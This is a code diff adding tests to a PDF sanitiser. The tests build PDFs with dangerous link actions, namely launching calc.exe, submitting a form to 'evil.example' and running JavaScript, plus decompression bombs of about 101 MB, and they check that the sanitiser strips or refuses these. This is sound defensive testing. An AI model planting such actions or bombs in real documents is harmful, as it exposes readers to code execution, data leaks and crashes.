@@ -6,6 +6,7 @@ from collections.abc import Callable
 from datetime import timedelta
 from io import BytesIO
 from pathlib import Path
+from typing import Any
 
 import pikepdf
 import pytest
@@ -214,6 +215,45 @@ def test_a_paper_keeps_its_pages_and_tells_nothing_else(tmp_path: Path) -> None:
     assert SECRET not in laid_open.getvalue()
     assert not any(SECRET.decode() in said for said in document_strings(taken.content))
     assert taken_in(told_by, POLICY) == taken, "the same bytes for the same paper"
+
+
+ACTIONS = (
+    {"/S": pikepdf.Name.Launch, "/F": "calc.exe"},
+    {"/S": pikepdf.Name.SubmitForm, "/F": "http://evil.example"},
+    {"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"},
+)
+
+
+@pytest.mark.parametrize("action", ACTIONS)
+def test_a_paper_does_nothing_by_itself_or_with_a_click(action: dict[str, Any]) -> None:
+    paper, written = pikepdf.new(), BytesIO()
+    link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(action))
+    web = pikepdf.Dictionary(
+        Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://a.example")
+    )
+    paper.add_blank_page().Annots = pikepdf.Array([link, web])
+    paper.save(written)
+    taken = taken_in(written.getvalue(), POLICY)
+    assert isinstance(taken, Taken)
+    with pikepdf.open(BytesIO(taken.content)) as bare:
+        first, second = bare.pages[0].Annots
+        assert set(first.A.keys()) == {"/S"}
+        assert str(second.A.URI) == "https://a.example", "a link to look at stays"
+
+
+@pytest.mark.parametrize(("times", "because"), [(1, "more than any paper draws"), (2, "packed twice")])
+def test_a_paper_that_unpacks_to_more_than_there_is_room_for_is_refused(times: int, because: str) -> None:
+    paper, written = pikepdf.new(), BytesIO()
+    content = b" " * 101_000_000
+    for _ in range(times):
+        content = zlib.compress(content)
+    stream = paper.make_stream(b"")
+    stream.write(content, filter=pikepdf.Array([pikepdf.Name.FlateDecode] * times))
+    paper.add_blank_page().Contents = stream
+    paper.save(written, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+    taken = taken_in(written.getvalue(), POLICY)
+    assert isinstance(taken, Refused), because
+    assert taken.why == "broken", because
 
 
 def test_a_photo_in_a_paper_keeps_its_pixels() -> None:
